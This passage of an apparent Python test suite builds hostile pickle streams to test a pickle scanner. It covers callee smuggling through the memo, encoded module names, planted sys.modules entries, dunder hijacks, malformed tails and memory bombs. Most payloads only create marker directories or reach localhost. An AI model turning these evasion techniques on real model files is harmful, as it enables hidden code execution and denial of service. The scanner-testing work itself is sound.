        ("NEWOBJ of a map, consumed by APPENDS of its list", "A1, B13", lambda m: Call("builtins:list", New("builtins:map", MKDIR, [m]))),
        ("NEWOBJ_EX with keywords", "A1, B14", lambda m: Call(keywords(Ref("os:makedirs"), name=m))),
        ("NEWOBJ_EX, dropped", "A1, B14", lambda m: [Call(keywords(Ref("subprocess:call"), ["touch", m], shell=False)), None]),
        ("copyreg.__newobj__", "B15", lambda m: Call("copyreg:__newobj__", Ref("builtins:bytes"), Call("builtins:map", MKDIR, [m]))),
        ("copyreg.__newobj_ex__", "B15", lambda m: Call(Call("copyreg:__newobj_ex__", Ref("functools:partial"), (MKDIR, m), {}))),
        (
            "copyreg._reconstructor",
            "B15, A15",
            lambda m: Call("copyreg:_reconstructor", Ref("builtins:bytearray"), Ref("builtins:bytearray"), Call("builtins:map", MKDIR, [m])),
        ),
        ("result dropped", "A1", lambda m: a().push(Call("os:mkdir", m)).op("POP", "NONE")),
        ("result dropped with its mark", "A1, B7", lambda m: a().op("MARK").push(Call("os:mkdir", m)).op("POP_MARK", "NONE")),
        ("result deep in a value", "A1", lambda m: {"steps": [("scaler", {"scale": (1.0, [Call("os:mkdir", m)])})]}),
        (
            "behind an honest estimator",
            "A1",
            lambda m: [New("sklearn.preprocessing._data:StandardScaler", state={"with_mean": True}), Call("os:mkdir", m)],
        ),
        (
            "as the state of an honest estimator",
            "A1",
            lambda m: New("sklearn.preprocessing._data:StandardScaler", state={"with_mean": Call("os:mkdir", m)}),
        ),
        ("callee out of the memo", "B12", lambda m: [Let("f", MKDIR), Call(Get("f"), m)]),
        ("callee duplicated", "B12, B7", lambda m: a().push(MKDIR).op("DUP").push((m,)).op("REDUCE")),
        (
            "callee and arguments out of the memo",
            "B12, B24",
            lambda m: [Let("f", MKDIR), Let("t", (m,)), Call(Get("f"), tupled=Get("t")), Call(Ref("builtins:len"), tupled=Get("t"))],
        ),
        (
            "callee swapped in the memo",
            "B24, B6",
            lambda m: called(
                a().push(Ref("builtins:len")).op("BINPUT", operand=0).op("POP").push(MKDIR).op("BINPUT", operand=0).op("POP").op("BINGET", operand=0),
                m,
            ),
        ),
        (
            "arguments changed after they were pushed",
            "B24",
            lambda m: (
                a()
                .push(Ref("subprocess:call"))
                .push([])
                .op("BINPUT", operand=0)
                .op("TUPLE1")
                .op("BINGET", operand=0)
                .group(["touch", m], "APPENDS")
                .op("POP", "REDUCE")
            ),
        ),
        ("REDUCE with a list of arguments", "B12", lambda m: a().push(MKDIR).push([m]).op("REDUCE")),
        ("only fetched", "A2", lambda m: [1, MKDIR]),
        ("module nt", "A1", lambda m: Call("nt:system", sh(m))),
        ("socket", "A1", lambda m: Call("socket:create_connection", ("127.0.0.1", 9))),
        ("socket, only made", "A1", lambda m: Call("socket:socket")),
        ("urlopen", "E.1 picklescan", lambda m: Call("urllib.request:urlopen", "http://127.0.0.1:9/")),
        ("smtplib", "E.1", lambda m: Call("smtplib:SMTP", "127.0.0.1", 9)),
        ("ensurepip._run_pip", "E.1 picklescan", lambda m: Call("ensurepip:_run_pip", ["install", "x"])),
        ("pip main", "E.1 CVE-2025-1716", lambda m: Call("pip:main", ["install", "x"])),
        ("antigravity", "A2", lambda m: Ref("antigravity:fly")),
    ]
    quiet = {"only fetched", "module nt", "socket", "socket, only made", "urlopen", "smtplib", "ensurepip._run_pip", "pip main", "antigravity"}
    by_python = {"REDUCE with a list of arguments"}
    for name, rules, what in rows:
        yield stream(f"form: {name}", rules, what, effect="none" if name in quiet else "marker", reader="_loads" if name in by_python else "loads")


# --- A6 to A19 -------------------------------------------------------------------------------------------------


def short(text: str) -> bytes:
    return op("SHORT_BINUNICODE", text)


def old_names() -> Iterator[Case]:
    argument: dict[str, Callable[[str], bytes]] = {
        "__builtin__.open": lambda m: b"",
        "cPickle.loads": lambda m: b"",
        "urllib.urlretrieve": lambda m: b"Vfile:///dev/null\nV" + m.encode() + b"\n",
        "anydbm.open": lambda m: b"V" + m.encode() + b"\nVc\n",
    }
    for name, module, attribute, make, verdicts in PYTHON_2:
        given = argument.get(name) if make is None else (lambda m, make=make: b"V" + make(m).encode() + b"\n")
        head = f"c{module}\n{attribute}\n(".encode()
        if name == "__builtin__.open":
            head, given = b"c__builtin__\nopen\n(", lambda m: b"V" + m.encode() + b"\nVw\n"
        if name == "cPickle.loads":
            head = b"ccPickle\nloads\n("
            given = lambda m: b"c_codecs\nencode\n(V" + text_evil(m).decode().replace("\n", "\\u000a").encode() + b".\nVlatin1\ntR"  # noqa: E731
        for protocol, prefix in ((0, b""), (2, b"\x80\x02")):
            yield stream(
                f"python 2: {name}, protocol {protocol}", "A6", lambda m, p=prefix, h=head, g=given: p + h + g(m) + b"tR.", verdicts, needs=()
            )
    maps = b"citertools\nimap\n(cos\nmkdir\n(V"
    yield stream("python 2: itertools.imap", "A6, B12", lambda m: b"c__builtin__\nlist\n(" + maps + m.encode() + b"\nltRtR.")
    yield stream(
        "python 2: copy_reg",
        "A6, B15",
        lambda m: b"ccopy_reg\n_reconstructor\n(clogging\nFileHandler\nclogging\nFileHandler\nV" + m.encode() + b"\ntR.",
        BAD,
    )
    yield stream("python 2: reduce", "A6", lambda m: b"c__builtin__\nreduce\n(cos\nmkdir\n(V" + m.encode() + b"\nI511\nltR.")
    yield stream("python 2: INST of a mapped name", "A6, B16", lambda m: b"(V" + sh(m).encode() + b"\nicommands\ngetoutput\n.", BAD)
    yield stream(
        "python 2: STACK_GLOBAL of a mapped name",
        "A6, B4",
        lambda m: b"\x80\x02" + short("commands") + short("getoutput") + b"\x93" + short(sh(m)) + b"\x85R.",
        BAD,
    )
    yield stream(
        "python 2: protocol lowered in mid-stream", "A6, A7", lambda m: b"\x80\x04\x80\x02ccommands\ngetoutput\n" + short(sh(m)) + b"\x85R.", REFUSED
    )
    yield stream(
        "python 2: protocol lowered behind a value",
        "A7, B4",
        lambda m: b"\x80\x05N\x80\x000\x80\x01c__builtin__\neval\n" + short(py(m)) + b"\x85R.",
        REFUSED,
    )
    yield stream("dotted: protocol raised in mid-stream", "A3, A7", lambda m: b"\x80\x02\x80\x04crandom\n_os.mkdir\n" + short(m) + b"\x85R.", REFUSED)
    yield stream("dotted: protocol raised from none", "A3, A7, B4", lambda m: b"N0\x80\x04crandom\n_os.mkdir\n" + short(m) + b"\x85R.", REFUSED)


def extensions() -> Iterator[Case]:
    for size, code in (("EXT1", 240), ("EXT2", 0x1234), ("EXT4", 0x12345678)):
        yield stream(
            f"extension: {size} registered by the stream",
            "A8, A9, B21",
            lambda m, s=size, c=code: a().push(Call("copyreg:add_extension", "os", "mkdir", c)).op("POP").op(s, operand=c).push((m,)).op("REDUCE"),
            REFUSED,
        )
    yield stream("extension: EXT1 of a warm cache", "A8, B21 nltk #3757", lambda m: called(a().op("EXT1", operand=240), m), REFUSED, reader="warm")
    yield stream("extension: EXT1 not registered", "A8, B21", lambda m: called(a().op("EXT1", operand=1), m), REFUSED, effect="none")
    yield stream(
        "extension: planted in the cache",
        "A9, A13, B18",
        lambda m: called(a().push(Ref("copyreg:_extension_cache")).push(240).push(MKDIR).op("SETITEM", "POP").op("EXT1", operand=240), m),
        REFUSED,
    )
    yield stream(
        "extension: planted in the registry",
        "A9, A13, B18",
        lambda m: called(a().push(Ref("copyreg:_inverted_registry")).push(240).push(("os", "mkdir")).op("SETITEM", "POP").op("EXT1", operand=240), m),
        REFUSED,
    )
    yield stream("operand: persistent id", "A10, B21", lambda m: a().op("PERSID", operand="x"), REFUSED, effect="none")
    yield stream(
        "operand: persistent id of a tuple", "A10, B21 CVE-2026-24747", lambda m: a().push(("storage", 1)).op("BINPERSID"), REFUSED, effect="none"
    )
    yield stream("operand: persistent id out of a call", "A10, B21", lambda m: a().push(("x", Call("os:mkdir", m))).op("BINPERSID"))
    yield stream("operand: next buffer, after the payload", "B20", lambda m: a().push(Call("os:mkdir", m)).op("NEXT_BUFFER"))
    yield stream(
        "operand: read-only buffer as code",
        "B20",
        lambda m: a().push(Ref("builtins:exec")).push(bytearray(py(m).encode())).op("READONLY_BUFFER", "TUPLE1", "REDUCE"),
    )


def built(target: Any, state: Any) -> Do:
    """BUILD on any value."""
    return Do(lambda asm: asm.push(target).push(state).op("BUILD"))


def states() -> Iterator[Case]:
    partial = lambda m: Call("functools:partial", MKDIR, m)  # noqa: E731
    new = lambda: New(NAMESPACE)  # noqa: E731
    rows: list[tuple[str, str, Callable[[str], Any]]] = [
        (
            "a class gets a method",
            "A11, A14, B17, B18",
            lambda m: [built(Ref(NAMESPACE), (None, {"append": MKDIR})), Do(lambda s: s.push(new()).push(m).op("APPEND"))],
        ),
        (
            "a class gets __hash__",
            "A11, B19",
            lambda m: [built(Ref(NAMESPACE), (None, {"__hash__": partial(m)})), Do(lambda s: s.op("EMPTY_SET").group([new()], "ADDITEMS"))],
        ),
        (
            "a class gets __hash__, for a key",
            "A11, B19",
            lambda m: [built(Ref(NAMESPACE), (None, {"__hash__": partial(m)})), Do(lambda s: s.op("EMPTY_DICT").push(new()).push(1).op("SETITEM"))],
        ),
        (
            "a class gets __hash__, for DICT",
            "A11, B19",
            lambda m: [built(Ref(NAMESPACE), (None, {"__hash__": partial(m)})), Do(lambda s: s.group([new(), 1], "DICT"))],
        ),
        (
            "a class gets __hash__, for FROZENSET",
            "A11, B19",
            lambda m: [built(Ref(NAMESPACE), (None, {"__hash__": partial(m)})), Do(lambda s: s.group([new()], "FROZENSET"))],
        ),
        (
            "a class gets __del__",
            "A11, A18",
            lambda m: [built(Ref(NAMESPACE), (None, {"__del__": partial(m)})), Do(lambda s: s.push(new()).op("POP").push(None))],
        ),
        (
            "a class gets __setitem__",
            "A11, B18",
            lambda m: [built(Ref(NAMESPACE), (None, {"__setitem__": Ref("os:mkdir")})), Do(lambda s: s.push(new()).push(m).push(511).op("SETITEM"))],
        ),
        (
            "a class of scikit-learn gets a method",
            "A11",
            lambda m: [
                built(Ref("sklearn.model_selection._split:KFold"), (None, {"append": MKDIR})),
                Do(lambda s: s.push(New("sklearn.model_selection._split:KFold")).push(m).op("APPEND")),
            ],
        ),
        (
            "a function gets defaults",
            "A12, B17",
            lambda m: [built(Ref("os:makedirs"), (None, {"__defaults__": (m, 511, False)})), Call("os:makedirs")],
        ),
        (
            "a function gets code",
            "A12, B17",
            lambda m: [
                built(Ref("numpy.random._pickle:__bit_generator_ctor"), (None, {"__code__": Call("builtins:compile", py(m), "x", "exec")})),
                Call("numpy.random._pickle:__bit_generator_ctor"),
            ],
        ),
        (
            "a module planted among the modules",
            "A13, B18",
            lambda m: [
                Do(lambda s: s.push(Ref("sys:modules")).push("planted").push(Ref("shutil:os")).op("SETITEM")),
                Do(lambda s: called(s.global_("planted", "mkdir"), m)),
            ],
        ),
        (
            "a module of a name with a space",
            "A13, B23",
            lambda m: [
                Do(lambda s: s.push(Ref("sys:modules")).push("os mkdir").push(Ref("shutil:os")).op("SETITEM")),
                Do(lambda s: called(s.global_("os mkdir", "mkdir"), m)),
            ],
        ),
        (
            "GLOBAL of a module with a space",
            "A13, B23",
            lambda m: [
                Do(lambda s: s.push(Ref("sys:modules")).push("numpy dtype").push(Ref("shutil:os")).op("SETITEM")),
                Do(lambda s: called(s.op("GLOBAL", operand="numpy dtype:mkdir"), m)),
            ],
        ),
        ("a module by BUILD", "A13, B17", lambda m: [built(Ref("os:path"), {"mkdir": MKDIR}), Call("posixpath:mkdir", m)]),
        ("an instance gets __setstate__", "A14, B17", lambda m: built(built(New(NAMESPACE), {"__setstate__": MKDIR}), m)),
        ("an instance gets append", "A14, B18", lambda m: Do(lambda s: s.push(built(New(NAMESPACE), {"append": MKDIR})).push(m).op("APPEND"))),
        (
            "an instance gets extend",
            "A14, B18",
            lambda m: Do(lambda s: s.push(built(New(NAMESPACE), {"extend": Ref("subprocess:call")})).group(["touch", m], "APPENDS")),
        ),
        ("an instance gets add", "A14, B18", lambda m: Do(lambda s: s.push(built(New(NAMESPACE), {"add": MKDIR})).group([m], "ADDITEMS"))),
        (
            "an instance gets add by slot state",
            "A14, B17, B18",
            lambda m: Do(lambda s: s.push(built(New(NAMESPACE), (None, {"add": MKDIR}))).group([m], "ADDITEMS")),
        ),
        (
            "Bunch serves append",
            "A14, B18",
            lambda m: Do(lambda s: s.push(New("sklearn.utils._bunch:Bunch")).push("append").push(MKDIR).op("SETITEM").push(m).op("APPEND")),
        ),
        (
            "class reassigned",
            "A19, A17, B17",
            lambda m: built(
                built(New(NAMESPACE), (None, {"__class__": Ref("scipy.stats._continuous_distns:norm_gen")})), {"_parse_arg_template": py(m)}
            ),
        ),
        ("state of a call", "B17", lambda m: built(New(NAMESPACE), {"x": Call("os:mkdir", m)})),
        ("environment changed", "A13, B18", lambda m: Do(lambda s: s.push(Ref("os:environ")).push("PATH").push("/x").op("SETITEM"))),
        (
            "dispatch table changed",
            "A13, B18",
            lambda m: Do(lambda s: s.push(Ref("copyreg:dispatch_table")).push(Ref("builtins:int")).push(MKDIR).op("SETITEM")),
        ),
        (
            "bit generators changed",
            "A13, B18",
            lambda m: Do(lambda s: s.push(Ref("numpy.random._pickle:BitGenerators")).push("MT19937").push(MKDIR).op("SETITEM")),
        ),
    ]
    quiet = {"environment changed", "dispatch table changed", "bit generators changed"}
    needs = {
        "a class of scikit-learn gets a method": ("sklearn.model_selection._split",),
        "a function gets code": ("numpy.random._pickle",),
        "Bunch serves append": ("sklearn.utils._bunch",),
        "class reassigned": ("scipy.stats",),
        "bit generators changed": ("numpy.random._pickle",),
    }
    for name, rules, what in rows:
        yield stream(f"state: {name}", rules, what, BAD, needs=needs.get(name, ()), effect="none" if name in quiet else "marker")
    yield stream("import only: this", "A2", lambda m: Ref("this:s"), BAD, effect="import")
    yield stream("import only: numpy.f2py", "A2", lambda m: Ref("numpy.f2py:run_main"), BAD, effect="import")
    yield stream("import only: unittest.__main__", "A2", lambda m: Ref("unittest.__main__:main"), BAD, effect="none")
    yield stream("import only: an own module of the folder", "A2", lambda m: Ref("__main__:payload"), BAD, effect="none")


# --- B: against a verifier of opcodes --------------------------------------------------------------------------

BROKEN_TAILS = (
    ("reserved opcode", b"\xff."),
    ("no STOP", b""),
    ("cut in an argument", b"X\xff\x00\x00\x00ab"),
    ("cut in a line", b"cposix\nsyst"),
    ("text that is no UTF-8", op("SHORT_BINUNICODE", b"\xff\xfe") + b"."),
    ("stack underflow", b"000000."),
    ("memo key missing", b"h\xc8."),
    ("text memo key missing", b"g200\n."),
    ("STACK_GLOBAL of numbers", b"K\x01K\x02\x93."),
    ("REDUCE of numbers", b"K\x01K\x02R."),
    ("BUILD of a number", b"K\x01}K\x01K\x02sb."),
    ("protocol 99", b"\x80\x63."),
    ("text number that is none", b"Ijunk\n."),
    ("float that is none", b"Fjunk\n."),
    ("STRING without quotes", b"Sjunk\n."),
    ("TUPLE without a mark", b"t."),
    ("SETITEMS of odd many", b"}(K\x01u."),
    ("DUP behind a mark", b"(2t."),
    ("APPEND to nothing", b"a."),
    ("MARK on top", b"(."),
    ("LONG1 that is too long", b"\x8a\xff\x01."),
    ("BINBYTES8 without data", b"\x8e\xff\xff\xff\xff\xff\x00\x00\x00."),
    ("frame past the end", b"\x95\xff\xff\xff\x00\x00\x00\x00\x00."),
    ("module that does not exist", b"cno_such_module\nx\n."),
)


def tails() -> Iterator[Case]:
    for name, tail in BROKEN_TAILS:
        rules = (
            "B1, B11 nullifAI" if name in ("TUPLE without a mark", "SETITEMS of odd many", "DUP behind a mark", "stack underflow") else "B1 nullifAI"
        )
        yield stream(f"broken tail: {name}", rules, lambda m, t=tail: b"\x80\x04cos\nmkdir\n" + short(m) + b"\x85R" + t)
    for name, make, reader in (
        ("junk behind STOP", lambda m: evil(m) + b"\x00\x01junk", "loads"),
        ("a benign pickle behind", lambda m: evil(m) + program([1, 2]), "loads"),
        ("a line break behind", lambda m: evil(m) + b"\n", "loads"),
        ("payload second", lambda m: program([1, 2]) + evil(m), "each"),
        ("payload third, after line breaks", lambda m: program(1) + b"\n" + program({}) + b"\n" + evil(m), "lines"),
        ("payload sixth", lambda m: b"".join(map(program, (1, 2, 3, 4, 5))) + evil(m), "each"),
        ("payload behind a broken pickle", lambda m: program(1) + text_evil(m) + b"\xff", "each"),
        ("payload behind bytes that are none", lambda m: program(1) + b"\x00" * 64 + evil(m), "zeros"),
    ):
        yield stream(f"tail: {name}", "B2, F2", make, UNREAD if "behind bytes" in name else HOSTILE, reader=reader)
    for name, make in (
        ("values below the result", lambda m: a().push(1).push("x").push(Call("os:mkdir", m))),
        ("an open mark below", lambda m: a().push(1).op("MARK").push(Call("os:mkdir", m))),
        ("many open marks", lambda m: a().raw(op("MARK") * 300).push(Call("os:mkdir", m))),
        ("payload left below an honest result", lambda m: a().push(Call("os:mkdir", m)).push([1, 2])),
    ):
        yield stream(f"leftover: {name}", "B3", make, HOSTILE)


def frames() -> Iterator[Case]:
    body = lambda m: short("os") + short("mkdir") + b"\x93" + short(m) + b"\x85R"  # noqa: E731
    framed = lambda size: b"\x95" + struct.pack("<Q", size)  # noqa: E731
    rows: list[tuple[str, Callable[[str], bytes], str]] = [
        ("none", lambda m: b"\x80\x04" + body(m) + b".", "loads"),
        ("of size zero", lambda m: b"\x80\x04" + framed(0) + body(m) + b".", "loads"),
        ("many of size zero", lambda m: b"\x80\x04" + framed(0) * 50 + body(m) + framed(0) + b".", "loads"),
        ("in protocol 0", lambda m: framed(len(text_evil(m)) + 1) + text_evil(m) + b".", "loads"),
        (
            "one an opcode",
            lambda m: (
                b"\x80\x04" + b"".join(framed(len(each)) + each for each in (short("os"), short("mkdir"), b"\x93", short(m), b"\x85", b"R", b"."))
            ),
            "loads",
        ),
        ("longer than the program", lambda m: b"\x80\x04" + framed(len(body(m)) + 100) + body(m) + b".", "_loads"),
        ("of 2**63 - 1", lambda m: b"\x80\x04" + body(m) + framed((1 << 63) - 1) + b".", "loads"),
        ("of 2**64 - 1", lambda m: b"\x80\x04" + body(m) + framed((1 << 64) - 1) + b".", "loads"),
    ]
    for name, make, reader in rows:
        yield stream(f"frame: {name}", "B5", make, UNREAD, reader=reader)
    # CPython ran these until 3.13.15 and 3.14.7: whether they work says nothing of the case.
    for name, make in (
        ("that ends inside an argument", lambda m: b"\x80\x04" + framed(3) + body(m) + b"."),
        ("nested", lambda m: b"\x80\x04" + framed(len(body(m)) + 10) + framed(len(body(m)) + 1) + body(m) + b"."),
    ):
        yield stream(f"frame: {name}", "B5 cpython #154848", make, UNREAD, effect="none")
    for name, make in (
        ("late", lambda m: b"N0\x80\x04" + body(m) + b"."),
        ("repeated", lambda m: b"\x80\x04" * 20 + body(m) + b"."),
        ("none, with new opcodes", lambda m: body(m) + b"."),
        ("0, with new opcodes", lambda m: b"\x80\x00" + body(m) + b"."),
        ("1, with new opcodes", lambda m: b"\x80\x01" + body(m) + b"."),
        ("between operands", lambda m: b"\x80\x04" + short("os") + b"\x80\x05" + short("mkdir") + b"\x80\x04\x93" + short(m) + b"\x80\x02\x85R."),
        ("6, after the payload", lambda m: b"\x80\x04" + body(m) + b"\x80\x06."),
    ):
        yield stream(f"protocol: {name}", "B4", make, UNREAD)


def memos() -> Iterator[Case]:
    end = lambda m: b"\x93" + short(m) + b"\x85R."  # noqa: E731
    four = b"\x80\x04"
    rows: list[tuple[str, str, Callable[[str], bytes], str]] = [
        (
            "overwritten",
            "B6 picklescan #22",
            lambda m: four + short("os") + b"q\x00" + short("math") + b"q\x010" + short("mkdir") + b"q\x0100h\x00h\x01" + end(m),
            "loads",
        ),
        (
            "decoy overwritten",
            "B6 modelscan #85",
            lambda m: (
                four
                + short("math")
                + b"q\x000"
                + short("os")
                + b"q\x000"
                + short("floor")
                + b"q\x010"
                + short("mkdir")
                + b"q\x010h\x00h\x01"
                + end(m)
            ),
            "loads",
        ),
        ("out of order", "B6", lambda m: four + short("os") + b"q\x090" + short("mkdir") + b"q\x020h\x09h\x02" + end(m), "loads"),
        (
            "sparse",
            "B6",
            lambda m: four + short("os") + b"r\x00\x10\x00\x000" + short("mkdir") + b"r\x00\x20\x00\x000j\x00\x10\x00\x00j\x00\x20\x00\x00" + end(m),
            "loads",
        ),
        (
            "PUT 1, then MEMOIZE",
            "B6, B7",
            lambda m: four + short("math") + b"q\x010" + short("os") + b"\x940" + b"h\x01" + short("mkdir") + end(m),
            "loads",
        ),
        ("MEMOIZE of the operand between operands", "B6, B7", lambda m: four + short("os") + b"\x94" + short("mkdir") + b"\x94" + end(m), "loads"),
        (
            "PUT of another value than the last",
            "B6, B7",
            lambda m: four + short("os") + short("x") + b"0q\x000h\x00" + short("mkdir") + end(m),
            "loads",
        ),
        ("text keys", "B6", lambda m: four + short("os") + b"p0\n0" + short("mkdir") + b"p1\n0g0\ng1\n" + end(m), "loads"),
        ("text keys with zeros", "B6, B10", lambda m: four + short("os") + b"p007\n0" + short("mkdir") + b"p1\n0g7\ng01\n" + end(m), "loads"),
        (
            "text keys with a sign and spaces",
            "B6, B10",
            lambda m: four + short("os") + b"p+7\n0" + short("mkdir") + b"p 1\n0g7\ng+1\n" + end(m),
            "loads",
        ),
        ("text keys with underscores", "B6, B10", lambda m: four + short("os") + b"p1_0\n0" + short("mkdir") + b"p1\n0g10\ng1\n" + end(m), "loads"),
        (
            "text keys with NUL",
            "B6, B10 cpython #126996",
            lambda m: four + short("os") + b"p0\0junk\n0" + short("mkdir") + b"p1\n0g0\ng1\n" + end(m),
            "loads",
        ),
        ("memo of the callee", "B6", lambda m: b"cos\nmkdir\np0\n0g0\n(V" + m.encode() + b"\ntR.", "loads"),
        ("keys with a word after NUL in INT", "B10 cpython #126996", lambda m: b"I7\0junk\n0" + text_evil(m) + b".", "loads"),
        ("LONG with a word after NUL", "B10 cpython #126996", lambda m: b"L5\0junkL\n0" + text_evil(m) + b".", "loads"),
        ("INT in octal", "B10", lambda m: b"I0017\n0" + text_evil(m) + b".", "loads"),
        ("FLOAT with an underscore", "B10", lambda m: b"F1_0.5\n0" + text_evil(m) + b".", "_loads"),
        ("INT with spaces", "B10", lambda m: b"I  7  \n0" + text_evil(m) + b".", "loads"),
    ]
    for name, rules, make, reader in rows:
        yield stream(f"memo and numbers: {name}", rules, make, UNREAD, reader=reader)


def stacks() -> Iterator[Case]:
    end = lambda m: b"\x93" + short(m) + b"\x85R."  # noqa: E731
    four = b"\x80\x04"
    decoy = short("math") + short("floor")
    rows: list[tuple[str, str, Callable[[str], bytes]]] = [
        ("decoys popped", "B7", lambda m: four + short("os") + short("mkdir") + decoy + b"00" + end(m)),
        ("decoys popped with their mark", "B7", lambda m: four + short("os") + short("mkdir") + b"(" + decoy + b"1" + end(m)),
        ("decoys folded into a tuple", "B7", lambda m: four + short("os") + short("mkdir") + decoy + b"\x860" + end(m)),
        ("decoys folded into a list", "B7", lambda m: four + short("os") + short("mkdir") + b"(" + decoy + b"l0" + end(m)),
        ("decoys between", "B7", lambda m: four + short("os") + decoy + b"00" + short("mkdir") + end(m)),
        ("POP removes a mark", "B7", lambda m: four + short("os") + b"(0" + short("mkdir") + end(m)),
        ("DUP of a name that is its own module", "B7", lambda m: four + short("os") + short("mkdir") + b"20" + end(m)),
        ("operands by memo and DUP", "B7, B6", lambda m: four + short("mkdir") + b"\x940" + short("os") + b"2\x940h\x00" + end(m)),
        ("STRING with octal escapes", "B8 GHSA-9gvj-pp9x-gcfr", lambda m: four + b"S'\\157s'\nS'mk\\144ir'\n" + end(m)),
        ("STRING with hex escapes", "B8", lambda m: four + b"S'\\x6f\\x73'\nS\"mk\\x64ir\"\n" + end(m)),
        ("UNICODE with escapes", "B8", lambda m: four + b"V\\u006f\\u0073\nV\\U0000006dkdir\n" + end(m)),
        ("SHORT_BINSTRING", "B8", lambda m: four + b"U\x02osU\x05mkdir" + end(m)),
        ("BINSTRING", "B8", lambda m: four + b"T\x02\x00\x00\x00osT\x05\x00\x00\x00mkdir" + end(m)),
        ("BINUNICODE8", "B8", lambda m: four + op("BINUNICODE8", "os") + op("BINUNICODE8", "mkdir") + end(m)),
        ("BINUNICODE", "B8", lambda m: four + op("BINUNICODE", "os") + op("BINUNICODE", "mkdir") + end(m)),
        ("mixed spellings", "B8", lambda m: four + b"S'os'\n" + op("BINUNICODE8", "mkdir") + end(m)),
        ("STRING with a line break escaped", "B8", lambda m: four + b"S'o\\\\\\ns'\n0" + short("os") + short("mkdir") + end(m)),
        ("carriage return is data", "B10", lambda m: b"cbuiltins\nexec\n(V" + py(m).encode() + b"\r#\rcmath\rfloor\n" + b"tR."),
        ("form feed and NEL are data", "B10", lambda m: b"cbuiltins\nexec\n(V" + py(m).encode() + b"#\x0c.\x0b.\x1c.\x85.\ntR."),
        ("NUL is data", "B10", lambda m: b"V\0\0\n0" + text_evil(m) + b"."),
        ("byte order mark is data", "B10", lambda m: b"V\xef\xbb\xbf\n0" + text_evil(m) + b"."),
        ("STRING in latin-1", "B22, B10", lambda m: b'cbuiltins\nexec\n(S"' + py(m).encode() + b'#\xe9"\ntR.'),
    ]
    for name, rules, make in rows:
        reader = "latin1" if "latin-1" in name else "loads"
        yield stream(f"stack and text: {name}", rules, make, UNREAD if rules != "B7" else HOSTILE, reader=reader)
    computed: list[tuple[str, Callable[[str], Any]]] = [
        ("str.join", lambda m: Call("builtins:str.join", "", ["mk", "dir"])),
        ("rot13", lambda m: Call("_codecs:decode", "zxqve", "rot13")),
        ("str of bytes", lambda m: Call("builtins:str", b"mkdir", "ascii")),
        ("operator.concat", lambda m: Call("operator:concat", "mk", "dir")),
        ("_codecs.decode of hex", lambda m: Call("_codecs:decode", Call("_codecs:decode", b"6d6b646972", "hex"), "ascii")),
        ("base64", lambda m: Call("builtins:str", Call("base64:b64decode", "bWtkaXI="), "ascii")),
    ]
    for name, make in computed:
        yield stream(f"computed name: {name}", "B9 modelscan #331", lambda m, w=make: called(a().text("os").push(w(m)).op("STACK_GLOBAL"), m), BAD)
    yield stream("computed name: os.name", "B9", lambda m: called(a().push(Ref("os:name")).text("mkdir").op("STACK_GLOBAL"), m), BAD)
    yield stream(
        "computed name: __name__ of a module", "B9, A4", lambda m: called(a().push(Ref("os:__name__")).text("mkdir").op("STACK_GLOBAL"), m), BAD
    )
    yield stream(
        "computed name: an attribute planted by BUILD",
        "B9, A11",
        lambda m: [
            built(Ref(NAMESPACE), (None, {"planted": "mkdir"})),
            Do(lambda s: called(s.text("os").push(Ref(f"{NAMESPACE}.planted")).op("STACK_GLOBAL"), m)),
        ],
        BAD,
    )


# --- D: exhaustion, and native code that trusts its state ------------------------------------------------------


def wide(depth: int) -> Callable[[Asm], Asm]:
    """A tuple of 2**(depth + 1) leaves."""
    return lambda asm: asm.push((1, 2)).raw((op("DUP") + op("TUPLE2")) * depth)


def bombs() -> Iterator[Case]:
    flood = 200_000
    collisions = 30_000
    rows: list[tuple[str, str, Callable[[str], Any]]] = [
        ("LONG_BINPUT of 2**31 - 1", "D1, B6 CVE-2018-20406", lambda m: a().push(1).op("LONG_BINPUT", operand=(1 << 31) - 1)),
        ("PUT of 2**40", "D1, B6", lambda m: a().push(1).op("PUT", operand=1 << 40)),
        ("BINBYTES8 of 2**40", "D2", lambda m: b"\x80\x05\x8e" + struct.pack("<Q", 1 << 40) + b"x."),
        ("BYTEARRAY8 of 2**40", "D2", lambda m: b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x."),
        ("BINUNICODE8 of 2**40", "D2", lambda m: b"\x80\x05\x8d" + struct.pack("<Q", 1 << 40) + b"x."),
        ("BINBYTES8 of 2**64 - 1", "D2", lambda m: b"\x80\x05\x8e" + b"\xff" * 8 + b"x."),
        ("LONG4 of 2**31 - 1", "D2", lambda m: b"\x80\x05\x8b\xff\xff\xff\x7fx."),
        ("LONG4 of a negative length", "D2", lambda m: b"\x80\x05\x8b\xff\xff\xff\xffx."),
        ("FRAME of 2**40", "D2, B5", lambda m: b"\x80\x05\x95" + struct.pack("<Q", 1 << 40) + b"N."),
        ("flood of sets, left on the stack", "D3, B3", lambda m: a().raw(op("EMPTY_SET") * flood)),
        ("bytearray(2**33)", "D4", lambda m: Call("builtins:bytearray", 1 << 33)),
        ("bytes(2**40)", "D4", lambda m: Call("builtins:bytes", 1 << 40)),
        ("list of range", "D4", lambda m: Call("builtins:list", Call("builtins:range", 1 << 40))),
        ("set of range", "D4", lambda m: Call("builtins:set", Call("builtins:range", 1 << 40))),
        ("Counter of range", "D4", lambda m: Call("collections:Counter", Call("builtins:range", 1 << 40))),
        ("text times 2**40", "D5", lambda m: Call("operator:mul", "x", 1 << 40)),
        ("shift by 2**40", "D5", lambda m: Call("operator:lshift", 1, 1 << 40)),
        ("Fraction of 1e4000000000", "D6", lambda m: Call("fractions:Fraction", "1e4000000000")),
        ("int of Decimal", "D6", lambda m: Call("builtins:int", Call("decimal:Decimal", "1e2000000000"))),
        ("pow(9, 10**9)", "D6", lambda m: Call("builtins:pow", 9, 10**9)),
        ("INT of 10**5 digits", "D6, B10", lambda m: b"I" + b"9" * 100_000 + b"\n."),
        ("LONG of 10**5 hex digits", "D6, B10", lambda m: b"L0x" + b"9" * 100_000 + b"L\n."),
        ("key of 2**46 leaves", "D7", lambda m: Do(lambda s: wide(45)(s.op("EMPTY_DICT")).push(1).op("SETITEM"))),
        ("item of a set of 2**46 leaves", "D7", lambda m: Do(lambda s: wide(45)(s.op("EMPTY_SET", "MARK")).op("ADDITEMS"))),
        ("FROZENSET of 2**46 leaves", "D7", lambda m: Do(lambda s: wide(45)(s.op("MARK")).op("FROZENSET"))),
        ("key of nested tuples", "D8", lambda m: Do(lambda s: s.op("EMPTY_DICT", "EMPTY_TUPLE").raw(op("TUPLE1") * 100_000).push(1).op("SETITEM"))),
